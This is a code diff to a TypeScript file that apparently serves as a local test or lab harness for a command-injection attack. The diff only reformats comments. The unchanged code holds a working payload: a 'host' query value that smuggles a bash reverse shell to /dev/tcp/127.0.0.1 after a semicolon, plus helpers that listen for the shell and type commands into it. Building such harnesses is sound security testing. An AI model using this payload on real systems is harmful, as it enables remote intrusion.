@@ -14,7 +14,7 @@ export interface Listener {
   close(): void;
 }
 
-// Waits for the victim's shell to call home.
+/** Waits for the victim's shell to call home. */
 export async function listenForShell(): Promise<Listener> {
   const server = createServer();
   const shell = new Promise<Socket>((resolve) => server.once("connection", resolve));
@@ -33,13 +33,13 @@ export async function serveCredentials(): Promise<() => void> {
   };
 }
 
-// The request that makes the shell: the part after the semicolon is the attacker's.
+/** The request that makes the shell: the part after the semicolon is the attacker's. */
 export function inject(victimPort: number, listenerPort: number): Promise<void> {
   const command = `localhost; bash -c 'bash -i >& /dev/tcp/127.0.0.1/${listenerPort} 0>&1'`;
   return request(`http://127.0.0.1:${victimPort}/?host=${encodeURIComponent(command)}`).then(() => {});
 }
 
-// Types one command into the shell and gives what it printed.
+/** Types one command into the shell and gives what it printed. */
 export function type(shell: Socket, command: string): Promise<string> {
   const end = `end-${Math.random().toString(36).slice(2)}`;
   return new Promise((resolve, reject) => {
